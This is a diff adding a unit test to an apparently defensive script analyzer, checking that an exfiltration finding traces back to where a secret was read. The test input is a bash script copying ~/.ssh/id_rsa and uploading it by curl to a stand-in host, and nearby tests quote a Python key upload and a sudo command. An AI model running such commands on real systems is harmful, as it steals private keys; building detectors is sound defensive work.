@@ -330,6 +330,22 @@ TEST(Verdict, EvidenceChainAndExplanation) {
   EXPECT_EQ(f->snippet, "requests.post('https://x.example/k', data={'k': key})");
 }
 
+// Through a file the code wrote (a copy, an archive): the chain starts where
+// the secret was read, not at whatever evidence the analysis made first.
+TEST(Verdict, EvidenceChainThroughAWrittenFileStartsAtTheRead) {
+  auto a = shell("#!/bin/bash\nls ~ >/dev/null\nwhoami >/dev/null\n"
+                 "cp ~/.ssh/id_rsa /tmp/stage/keycopy-file\n"
+                 "curl -F \"f=@/tmp/stage/keycopy-file\" https://x.example.net/u\n");
+  ASSERT_EQ(a.level, RiskLevel::blocked) << describe(a);
+  const Finding* f = nullptr;
+  for (const auto& x : a.findings)
+    if (x.rule_id == "EXFILTRATION") f = &x;
+  ASSERT_NE(f, nullptr) << describe(a);
+  ASSERT_GE(f->evidence.size(), 2u);
+  EXPECT_EQ(f->evidence.front().line, 4u) << f->evidence.front().what;
+  EXPECT_NE(f->evidence.front().what.find(".ssh/id_rsa"), std::string::npos) << f->evidence.front().what;
+}
+
 // Findings in nested code are placed at the outer construct.
 TEST(Verdict, NestedCodeIsPlacedOutside) {
   auto a = py("import os\n\nos.system(\"sudo sh -c 'id'\")\n");
